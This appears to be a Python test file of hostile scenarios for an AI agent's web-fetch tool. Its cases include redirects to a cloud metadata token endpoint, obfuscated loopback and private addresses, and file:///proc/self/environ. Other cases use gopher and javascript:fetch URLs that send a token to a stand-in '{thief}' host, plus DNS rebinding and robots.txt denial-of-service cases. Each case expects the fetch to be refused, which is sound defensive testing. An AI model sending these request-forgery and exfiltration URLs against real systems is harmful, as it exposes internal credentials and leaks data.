"""Fetching: pages that lead elsewhere by redirects, names, ports and robots.txt, and what a site could learn of its visitor."""

from __future__ import annotations

from typing import Any

from tests.campaigns.hostile.scenario import Answer, Scenario
from tests.campaigns.hostile.scenarios.web import AT, GET_NEXT, GET_START, NEXT, ROBOTS, START, browse, build_page, fetch

REFUSED = ("Error:",)


def _to(location: str, status: int = 302) -> dict[str, Answer]:
    return {"/start": Answer(status=status, headers={"location": location}), "/next": NEXT}


INWARD = {
    "the metadata server": "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "the metadata server over TLS": "https://169.254.169.254/",
    "the metadata server by name": "http://metadata.google.internal/computeMetadata/v1/",
    "loopback": "https://127.0.0.1/",
    "loopback as one number": "https://2130706433/",
    "loopback in hexadecimal": "https://0x7f.0x0.0x0.0x1/",
    "loopback in octal": "https://0177.0.0.1/",
    "loopback, shortened": "https://127.1/",
    "loopback of version 6": "https://[::1]/",
    "loopback within version 6": "https://[::ffff:127.0.0.1]/",
    "localhost": "https://localhost/",
    "a private address": "https://10.0.0.1/",
    "a name with a zero in it": "https://{site}%00.example/",
    "another port": "https://{thief}:8443/{token}",
    "a port of the other scheme": "https://{thief}:80/{token}",
    "a user name": "https://{site}@{thief}/{token}",
    "a backslash": "https://{site}\\@{thief}/{token}",
    "a file": "file:///proc/self/environ",
    "another scheme": "gopher://{thief}:443/_{token}",
    "a script": "javascript:fetch('https://{thief}/{token}')",
    "a document of its own": "data:text/html,{marker}",
    "nowhere": "",
}
ADDRESSES: dict[str, tuple[str, ...]] = {
    "loopback": ("127.0.0.1",),
    "private": ("10.0.0.7",),
    "the metadata server's": ("169.254.169.254",),
    "of a carrier": ("100.64.0.9",),
    "of nobody": ("0.0.0.0",),
    "of a group": ("224.0.0.9",),
    "loopback of version 6": ("::1",),
    "private of version 6": ("fd00::7",),
    "link-local of version 6": ("fe80::7",),
    "loopback within version 6": ("::ffff:127.0.0.1",),
    "loopback behind a translator": ("64:ff9b::7f00:1",),
    "public and private": ("93.184.215.14", "10.0.0.8"),
}
CLEAR = {"clear": ("{thief}",), "names": {}}
"""The thief's host answers on port 80 as well."""


def _redirect(what: str, location: str, status: int = 302, **more: Any) -> Scenario:
    more = {"names": {"{thief}": ()}, "expected": REFUSED, **more}
    return browse(f"fetch: redirected to {what}", answers=_to(location, status), **more)


def _name(what: str, addresses: tuple[str, ...]) -> Scenario:
    names = {"n.{site}": addresses}
    return _redirect(f"a name whose address is {what}", "https://n.{site}/{token}/next", names=names)


REDIRECTS = (
    *(_redirect(what, location) for what, location in INWARD.items()),
    *(_name(what, addresses) for what, addresses in ADDRESSES.items()),
    *(_redirect(f"a page in clear, {status}", "http://{thief}/{token}", status, **CLEAR) for status in (301, 307)),
    _redirect("itself in clear", "http://{site}/{token}/next"),
    browse(
        "fetch: redirected for ever",
        answers=_to("/{token}/start"),
        sent=(GET_START,) * 6,
        expected=REFUSED,
    ),
    browse(
        "fetch: redirected inward by what a person wrote",
        answers=_to("https://n.{site}/{token}/next"),
        names={"n.{site}": ("10.0.0.7",)},
        task={"task_prompt": f"Read {START} and https://n.{{site}}/{{token}}/next."},
        expected=REFUSED,
    ),
)
STRAIGHT = tuple(
    browse(
        f"fetch: {what}, which a person wrote",
        fetch(url),
        answers={},
        names={"n.{site}": ("10.0.0.7",), "m.{site}": ("93.184.215.14", "127.0.0.1")},
        task={"task_prompt": f"Read {url} now."},
        requests=0,
        requests_min=0,
        expected=REFUSED,
    )
    for what, url in (
        ("an address of a carrier", "https://100.64.0.9/"),
        ("a private name", "https://n.{site}/{token}/next"),
        ("a private name among others", "https://m.{site}/{token}/next"),
        ("loopback within version 6", INWARD["loopback within version 6"]),
        ("a port of its own", "https://{site}:8443/{token}/start"),
        ("a user name", "https://u:p@{site}/{token}/start"),
        ("a file", "file:///proc/self/environ"),
    )
)
REBINDING = (
    browse(
        "fetch: a name that turns inward after robots.txt",
        answers={"/robots.txt": Answer(status=404, renames={"{site}": ("127.0.0.1",)}), "/start": NEXT},
        requests=1,
        requests_min=1,
        expected=REFUSED,
    ),
    browse(
        "fetch: a name that turns inward with a redirect to itself",
        answers={"/start": Answer(status=302, headers={"location": "/{token}/next"}, renames={"{site}": ("10.0.0.7",)})},
        expected=REFUSED,
    ),
    browse(
        "fetch: a name that turns inward between two pages",
        fetch(),
        fetch(f"{AT}/next"),
        answers={
            "/start": Answer(
                headers={"content-type": "text/plain"},
                body=f"{{marker}} {AT}/next",
                renames={"{site}": ("25.99.0.9", "::1")},
            ),
            "/next": NEXT,
        },
        expected=("{marker}", *REFUSED),
    ),
    browse(
        "fetch: another's certificate",
        answers={"/start": NEXT},
        names={"{site}": ("stranger",)},
        requests=0,
        requests_min=0,
        expected=REFUSED,
    ),
)


def _robots(what: str, answer: Answer, *, is_fetched: bool = False, **more: Any) -> Scenario:
    if is_fetched:
        more = {"expected": ("{marker}",), **more}
    else:
        more = {"sent": (ROBOTS,), "requests": 1, "requests_min": 1, "expected": REFUSED, **more}
    return browse(f"fetch: robots.txt {what}", answers={"/robots.txt": answer, "/start": NEXT}, **more)


TEXT = {"content-type": "text/plain"}
RULES = (
    _robots("that forbids it", Answer(headers=TEXT, body="User-agent: *\nDisallow: /\n")),
    _robots("that forbids it by name", Answer(headers=TEXT, body="User-agent: ferryman\nDisallow: /{token}/st*t$\n")),
    _robots("that fails", Answer(status=503)),
    _robots("that leads to the metadata server", Answer(status=302, headers={"location": "http://169.254.169.254/"})),
    _robots(
        "that leads to a private name",
        Answer(status=302, headers={"location": "https://n.{site}/robots.txt"}),
        names={"n.{site}": ("10.0.0.7",)},
    ),
    _robots(
        "that leads to a page in clear", Answer(status=302, headers={"location": "http://{thief}/{token}"}), clear=("{thief}",)
    ),
    _robots("of 2 MB", Answer(headers=TEXT, body="User-agent: *\nAllow: /x\n" * 90_000), is_fetched=True),
    _robots(
        "of patterns that take long",
        Answer(headers=TEXT, body="User-agent: *\n" + f"Disallow: /{'*a' * 500}$\n" * 400),
        is_fetched=True,
    ),
    _robots("that is packed", Answer(headers={**TEXT, "content-encoding": "gzip"}, body="#" * 20_000_000), is_fetched=True),
    _robots("that never ends", Answer(raw=b"HTTP/1.1 200 OK\r\n\r\n", bits=(b"# wait\n",) * 80, pause_s=1.0), seconds=30.0),
)

COOKIES = {"content-type": "text/plain", "set-cookie": "visitor={marker}; Domain=pages.example; Path=/; SameSite=None; Secure"}
VISITS = (
    browse(
        "fetch: a cookie, and a page that asks for it",
        fetch(),
        fetch(f"{AT}/next"),
        answers={"/start": Answer(headers=COOKIES, body=f"See {AT}/next"), "/next": NEXT},
        sent=(GET_START, GET_NEXT),
        expected=("{marker} is",),
    ),
    browse(
        "fetch: a cookie on the way of a redirect, and a place to come from",
        answers={"/start": Answer(status=303, headers={**COOKIES, "location": "/{token}/next"}), "/next": NEXT},
        sent=(GET_START, GET_NEXT),
        expected=("{marker} is",),
    ),
    browse(
        "fetch: a login that is asked for",
        answers={"/start": Answer(status=401, headers={"www-authenticate": 'Basic realm="{marker}"'}, body="Who?")},
        expected=("Error:",),
    ),
    browse(
        "fetch: headers that a page wants set",
        answers={
            "/start": build_page(
                '<a href="https://{site}/{token}/next">next</a>',
                head='<meta http-equiv="refresh" content="0;url=https://{thief}/{token}">'
                '<meta name="referrer" content="unsafe-url"><link rel="stylesheet" href="https://{thief}/{token}.css">'
                '<base href="https://{thief}/"><script src="https://{thief}/{token}.js"></script>',
            ),
            "/next": NEXT,
        },
        names={"{thief}": ()},
        expected=("{marker}",),
    ),
    browse(
        "fetch: arguments that the tool does not have",
        fetch(
            headers={"x-forwarded-for": "127.0.0.1", "cookie": "a=b"},
            method="POST",
            body="{secret}",
            origin="written",
            anywhere=True,
            domains=["*"],
            user="owner-x",
        ),
        fetch(),
        answers={"/start": NEXT},
        sent=(GET_START, GET_START),
        expected=("{marker}",),
    ),
)

SCENARIOS = (*REDIRECTS, *STRAIGHT, *REBINDING, *RULES, *VISITS)
